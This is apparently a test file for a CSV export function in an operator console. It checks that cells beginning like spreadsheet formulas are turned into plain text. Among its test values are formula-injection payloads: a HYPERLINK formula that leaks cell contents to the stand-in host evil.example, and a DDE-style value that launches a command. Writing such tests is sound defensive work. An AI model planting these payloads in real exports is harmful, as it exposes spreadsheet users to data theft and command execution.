/**
 * The console's bad-rows CSV (console/csv.js, evaluated as the page runs it): a maker's registration ID that starts
 * like a formula reaches the operator's spreadsheet as text, never as a formula, and no value opens another cell.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Script } from 'node:vm';

type CsvLine = (values: unknown[]) => string;
const csvLine = new Script(
  `${readFileSync(join(__dirname, '..', '..', '..', 'console', 'csv.js'), 'utf8')}\n;csvLine`,
).runInNewContext({}) as CsvLine;

test.each([
  ['=1+2', `"'=1+2"`],
  ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`],
  ['@SUM(1+1)*cmd|" /C calc"!A0', `"'@SUM(1+1)*cmd|"" /C calc""!A0"`],
  ['+1', `"'+1"`],
  ['-2+3', `"'-2+3"`],
  ['\t=1+2', `"'\t=1+2"`],
  ['\r=1+2', `"'\r=1+2"`],
  ['＝1+2', `"'＝1+2"`],
])('a cell starting like a formula (%j) is text: %s', (value, cell) => {
  expect(csvLine([value])).toBe(cell);
});

test('every cell is quoted; a plain value keeps its text; quotes, commas and new lines stay inside their cell', () => {
  expect(csvLine([3, 'acme-1', 'invalid', 'bad key, "AAAA"\nsecond line', undefined])).toBe(
    `"3","acme-1","invalid","bad key, ""AAAA""\nsecond line",""`,
  );
  expect(csvLine(['a=b', 'x@y', 'no-dash-first'])).toBe('"a=b","x@y","no-dash-first"');
});
